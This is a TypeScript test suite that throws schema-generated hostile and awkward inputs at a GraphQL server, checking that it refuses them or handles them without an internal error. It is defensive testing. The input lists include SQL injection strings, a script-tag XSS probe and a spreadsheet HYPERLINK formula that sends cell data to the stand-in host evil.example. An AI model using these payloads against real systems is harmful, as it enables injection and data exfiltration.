import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { standaloneSchema } from '../../server/src/composition/index.js';
import { createHarness, type Client, type Harness } from '../../server/test/harness.js';
import { seedTerritory, seedUser, type SeededTerritory } from '../../server/test/seed.js';
import { schemaSites, type Leaf, type Site } from '../support/schema-cases.js';
import { startTestServer } from '../support/server.js';

/**
 * Generated from the schema: every text, ID and integer leaf of every argument of every mutation
 * and every filter. Part one sends values the boundary must refuse to a production-mode server and
 * expects a coded 400 naming the field, with nothing written; part two sends awkward but acceptable
 * values, as an administrator, and expects no internal error anywhere.
 */

let server: Awaited<ReturnType<typeof startTestServer>>;
let h: Harness;
let territory: SeededTerritory;
let sites: Site[];
beforeAll(async () => {
  server = await startTestServer({ production: true });
  h = await createHarness();
  territory = await seedTerritory(h);
  sites = schemaSites(standaloneSchema(), { territoryId: territory.id, territoryCode: territory.code });
});
afterAll(async () => {
  await h?.close();
  await server?.close();
});

function refusedValues(leaf: Leaf): unknown[] {
  if (leaf.kind === 'Int') return [2 ** 31, -(2 ** 31) - 1, 1.5, '12'];
  const text = ['a\u0000b', 'a\ud800b', 'cloche\u0007', 'échap\u001b[31m', 'del\u007f'];
  if (leaf.max !== null) text.push('x'.repeat(leaf.max + 1));
  if (leaf.name) text.push('\u200b\u200b\u200b', 'abc\u202Edef', 'deux\nlignes');
  if (leaf.kind === 'ID' && leaf.max === null) text.push('pas-un-uuid', '-'.repeat(36), "1' OR '1'='1", '');
  return text;
}

/** Rows of every table that belongs to the territory: a refused request must change none. */
async function fingerprint(): Promise<string> {
  const tables = (await h.dataSource.query(
    `SELECT table_name FROM information_schema.columns WHERE column_name = 'territory_id' AND table_schema = 'public' ORDER BY 1`,
  )) as { table_name: string }[];
  const counts = await Promise.all(
    tables.map(async ({ table_name }) => {
      const [row] = (await h.dataSource.query(
        `SELECT count(*)::int AS n FROM "${table_name}" WHERE territory_id = $1`,
        [territory.id],
      )) as { n: number }[];
      return `${table_name}=${row!.n}`;
    }),
  );
  return counts.join(',');
}

describe('schema-driven hostile input', () => {
  it('refuses every malformed text, ID and integer, on every argument, with a coded 400 naming the field', async () => {
    const before = await fingerprint();
    const failures: string[] = [];
    let cases = 0;
    for (const site of sites) {
      for (const leaf of site.leaves) {
        for (const value of refusedValues(leaf)) {
          cases++;
          const res = await fetch(`${server.url}/graphql`, {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify({ query: site.query, variables: leaf.with(value) }),
          });
          const body = (await res.json()) as { errors?: { extensions?: { code?: string; fields?: object } }[] };
          const error = body.errors?.[0];
          const named =
            leaf.kind === 'Int' || Object.keys(error?.extensions?.fields ?? {}).includes(leaf.path || 'input');
          if (res.status !== 400 || error?.extensions?.code !== 'BAD_USER_INPUT' || !named)
            failures.push(
              `${site.label} ${leaf.path} ${JSON.stringify(value).slice(0, 40)} → ${res.status} ${JSON.stringify(body).slice(0, 200)}`,
            );
        }
      }
    }
    console.log(
      `hostile suite: ${cases} refused cases sent to ${sites.length} fields (${sites.filter((s) => s.mutation).length} mutations)`,
    );
    expect(failures).toEqual([]);
    expect(await fingerprint()).toBe(before);
  });

  it('answers awkward but acceptable values without an internal error, as an administrator', async () => {
    const awkward: Record<Leaf['kind'], unknown[]> = {
      String: [
        '%_\\',
        "'; DROP TABLE users; --",
        '=HYPERLINK("http://evil.example/?"&A1,"Voir")',
        '<script>alert(1)</script>',
        'Œuvre « ça » 😀',
        ' ',
      ],
      ID: ['00000000-0000-0000-0000-000000000000'],
      Int: [0, -1, 2147483647, -2147483648],
    };
    let admin: Client | null = null;
    let sent = 0;
    let cases = 0;
    const failures: string[] = [];
    for (const site of sites) {
      for (const leaf of site.leaves) {
        for (const value of awkward[leaf.kind]) {
          // A fresh administrator every 40 requests stays under the per-account mutation limit.
          if (!admin || sent++ % 40 === 0)
            admin = await h.signedIn((await seedUser(h, { territory, role: 'ADMIN' })).id);
          cases++;
          const result = await admin.execute(site.query, leaf.with(value));
          const internal = result.errors?.find(
            (e) => !e.extensions?.code || e.extensions.code === 'INTERNAL_SERVER_ERROR',
          );
          if (internal) failures.push(`${site.label} ${leaf.path} ${JSON.stringify(value)} → ${internal.message}`);
        }
      }
    }
    console.log(`hostile suite: ${cases} awkward-value cases as an administrator`);
    expect(failures).toEqual([]);
  });
});
